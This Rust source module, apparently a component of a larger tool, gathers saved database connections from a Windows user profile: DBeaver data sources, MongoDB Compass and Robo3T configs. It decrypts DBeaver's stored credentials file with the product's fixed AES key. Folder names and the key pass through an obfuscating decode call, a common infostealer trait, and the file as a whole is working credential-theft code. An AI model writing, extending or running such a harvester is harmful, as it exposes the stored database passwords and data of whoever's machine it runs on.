//! Saved connections of Windows database clients.

use crate::banner;
use aes::cipher::{block_padding::Pkcs7, BlockDecryptMut, KeyIvInit};
use std::path::Path;

type Aes128CbcDec = cbc::Decryptor<aes::Aes128>;

pub struct Found {
    pub dbeaver_connections: usize,
    pub doc: serde_json::Value,
}

/// DBeaver keeps credentials-config.json AES-128-CBC encrypted with a fixed product key; the IV
/// is the first block.
fn dbeaver_credentials(dir: &Path) -> Option<serde_json::Value> {
    let raw = std::fs::read(dir.join("credentials-config.json")).ok()?;
    let key = hex::decode(banner::plain(banner::KEY)).ok()?;
    let (iv, body) = raw.split_at(16);
    let mut buf = body.to_vec();
    let plain = Aes128CbcDec::new_from_slices(&key, iv).ok()?.decrypt_padded_mut::<Pkcs7>(&mut buf).ok()?;
    serde_json::from_slice(plain).ok()
}

pub fn collect(profile: &Path) -> Found {
    let mut doc = serde_json::Map::new();
    doc.insert("profile".into(), profile.display().to_string().into());
    let mut n = 0;
    let dbeaver = profile.join(banner::plain(banner::DBEAVER));
    if let Ok(ds) = std::fs::read_to_string(dbeaver.join("data-sources.json")) {
        if let Ok(v) = serde_json::from_str::<serde_json::Value>(&ds) {
            n = v["connections"].as_object().map_or(0, |c| c.len());
            doc.insert("dbeaver.sources".into(), v);
        }
    }
    if let Some(creds) = dbeaver_credentials(&dbeaver) {
        doc.insert("dbeaver.credentials".into(), creds);
    }
    if let Ok(rd) = std::fs::read_dir(profile.join(banner::plain(banner::COMPASS))) {
        let conns: Vec<serde_json::Value> = rd
            .flatten()
            .filter_map(|e| std::fs::read_to_string(e.path()).ok())
            .filter_map(|t| serde_json::from_str(&t).ok())
            .collect();
        doc.insert("compass".into(), conns.into());
    }
    if let Ok(rd) = std::fs::read_dir(profile.join(banner::plain(banner::ROBO))) {
        for v in rd.flatten() {
            if let Ok(t) = std::fs::read_to_string(v.path().join("robo3t.json")) {
                doc.insert(format!("robo3t.{}", v.file_name().to_string_lossy()), t.into());
            }
        }
    }
    Found { dbeaver_connections: n, doc: serde_json::Value::Object(doc) }
}
